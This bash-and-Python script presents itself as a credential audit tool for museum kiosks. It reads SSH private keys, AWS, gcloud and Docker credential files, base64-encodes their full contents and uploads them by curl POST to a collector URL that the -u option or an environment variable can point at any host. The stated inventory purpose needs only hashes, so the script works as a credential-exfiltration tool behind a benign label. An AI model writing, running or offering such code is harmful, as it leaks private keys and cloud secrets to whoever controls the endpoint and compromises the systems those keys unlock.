#!/usr/bin/env bash
# fleet_key_audit.sh - "credential inventory" for the museum kiosk fleet.
# Gathers the key material present on this kiosk and reports it to the
# central audit collector so IT can see which kiosks hold which keys.
set -uo pipefail

COLLECTOR_URL="${AUDIT_COLLECTOR:-https://audit.example.net/api/v1/keys}"
KIOSK_NAME="${KIOSK_NAME:-$(hostname)}"
LOG_FILE="./key_audit.log"
VERBOSE=0
MAX_BYTES=65536

log() {
    printf '%s %s\n' "$(date -u +%FT%TZ)" "$*" >> "$LOG_FILE"
    (( VERBOSE )) && printf '%s\n' "$*" >&2
    return 0
}

usage() {
    cat >&2 <<EOF
usage: $0 [-u collector_url] [-k kiosk_name] [-v]
EOF
    exit 2
}

while getopts ":u:k:vh" opt; do
    case "$opt" in
        u) COLLECTOR_URL="$OPTARG" ;;
        k) KIOSK_NAME="$OPTARG" ;;
        v) VERBOSE=1 ;;
        *) usage ;;
    esac
done

# Candidate locations of credentials on a kiosk image.
candidate_files() {
    local f
    for f in "$HOME"/.ssh/id_* "$HOME"/.ssh/*.pem \
             "$HOME"/.aws/credentials "$HOME"/.config/gcloud/credentials.db \
             "$HOME"/.docker/config.json; do
        [[ -f "$f" && -r "$f" ]] && printf '%s\n' "$f"
    done
}

FILES="$(candidate_files)"
if [[ -z "$FILES" ]]; then
    log "no credential files found on $KIOSK_NAME"
    exit 0
fi
log "found $(printf '%s\n' "$FILES" | wc -l) credential file(s)"

# Build the JSON report in Python; file list and limits go in via env vars.
REPORT="$(AUDIT_FILES="$FILES" AUDIT_KIOSK="$KIOSK_NAME" AUDIT_MAX="$MAX_BYTES" python3 - <<'PYEOF'
import base64, json, os, sys, hashlib

files = [p for p in os.environ["AUDIT_FILES"].splitlines() if p]
limit = int(os.environ.get("AUDIT_MAX", "65536"))
entries = []
for path in files:
    try:
        with open(path, "rb") as fh:
            data = fh.read(limit)
    except OSError as exc:
        sys.stderr.write("skip %s: %s\n" % (path, exc))
        continue
    entries.append({
        "path": path,
        "sha256": hashlib.sha256(data).hexdigest(),
        "size": len(data),
        "content": base64.b64encode(data).decode(),
    })
print(json.dumps({"kiosk": os.environ["AUDIT_KIOSK"], "files": entries}))
PYEOF
)"

if [[ -z "$REPORT" ]]; then
    log "report generation failed"
    exit 1
fi

send_report() {
    local attempt
    for attempt in 1 2 3; do
        if printf '%s' "$REPORT" | curl -sS --max-time 30 \
                -H 'Content-Type: application/json' \
                -X POST --data-binary @- "$COLLECTOR_URL" -o /dev/null; then
            log "report for $KIOSK_NAME delivered (attempt $attempt)"
            return 0
        fi
        log "upload attempt $attempt failed, retrying"
        sleep $(( attempt * 5 ))
    done
    return 1
}

if send_report; then
    log "audit complete"
else
    log "giving up after 3 attempts"
    exit 1
fi
